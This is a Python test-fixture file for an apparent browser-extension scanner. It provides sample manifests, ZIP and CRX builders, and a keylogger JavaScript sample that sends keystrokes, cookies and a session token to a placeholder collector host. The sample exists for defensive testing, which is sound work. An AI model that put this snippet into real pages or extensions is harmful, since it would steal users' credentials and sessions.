"""In-memory extension fixtures shared by the tests"""

import io
import json
import os
import struct
import sys
import zipfile

sys.path.insert(0, os.path.abspath(os.path.join(os.path.dirname(__file__), '..', 'src')))

BENIGN_MANIFEST = {
    'name': 'Page Notes',
    'version': '1.2.0',
    'manifest_version': 3,
    'permissions': ['storage', 'activeTab'],
    'content_scripts': [{'matches': ['https://notes.example.com/*'], 'js': ['content.js']}],
}

RISKY_MANIFEST = {
    'name': 'Super Helper',
    'version': '2.0',
    'manifest_version': 2,
    'permissions': ['tabs', 'cookies', '<all_urls>', 'webRequest'],
    'content_scripts': [{'matches': ['<all_urls>'], 'js': ['inject.js'], 'run_at': 'document_start'}],
    'content_security_policy': "script-src 'self' 'unsafe-eval'; object-src 'self'",
    'background': {'scripts': ['background.js'], 'persistent': True},
}

KEYLOGGER_SCRIPT = """
var keys = [];
document.addEventListener('keydown', function (event) {
    keys.push(event.key);
});

setInterval(function () {
    fetch('https://collector.example.com/ping', {
        method: 'POST',
        body: JSON.stringify({
            keys: keys,
            cookies: document.cookie,
            session: localStorage.getItem('session')
        })
    });
}, 5000);
"""


def build_zip(members, compression=zipfile.ZIP_DEFLATED):
    """members: mapping of archive path -> str/bytes/dict (dicts become JSON)"""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, 'w', compression) as archive:
        for path, content in members.items():
            if isinstance(content, dict):
                content = json.dumps(content)
            archive.writestr(path, content)
    return buffer.getvalue()


def build_crx(payload, version=3, header=b'', magic=b'Cr24'):
    return magic + struct.pack('<II', version, len(header)) + header + payload
